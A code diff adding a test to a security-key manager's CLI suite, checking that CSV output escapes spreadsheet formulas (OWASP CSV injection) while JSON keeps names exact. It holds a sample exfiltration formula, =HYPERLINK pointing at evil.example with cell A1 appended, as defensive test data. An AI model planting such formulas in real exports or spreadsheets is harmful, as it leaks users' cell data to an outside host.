@@ -121,4 +121,19 @@ describe('--csv', () => {
     expect(keys[0]![0]).toBe('id');
     expect(keys[1]![0]).toMatch(/^virtual:SIM/);
   });
+
+  it('guards names from websites against spreadsheet formulas (OWASP CSV injection); ids stay exact', async () => {
+    const formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
+    const hostile = passkey({ rpId: 'x.example', rpName: '+1 Bank', user: formula });
+    await seedKey(path, { preset: 'bio', credentials: [hostile], templates: [{ id: 'a1', name: '@SUM(1)' }] });
+    const creds = await skm(['--virtual', path, '--csv', 'creds', 'list'], { stdin: `${PIN}\n` });
+    expect(creds.code).toBe(0);
+    const rows = parse(creds.stdout) as string[][];
+    expect(rows[1]).toEqual(['x.example', "'+1 Bank", `'${formula}`, '', b64url(hostile.id), '1', 'false']);
+    // JSON keeps the name exactly as the website chose it.
+    const json = await skm(['--virtual', path, '--json', 'creds', 'list'], { stdin: `${PIN}\n` });
+    expect(json.stdout).toContain(JSON.stringify(formula));
+    const bio = parse((await skm(['--virtual', path, '--csv', 'bio', 'list'], { stdin: `${PIN}\n` })).stdout) as string[][];
+    expect(bio[1]).toEqual(['a1', "'@SUM(1)"]);
+  });
 });
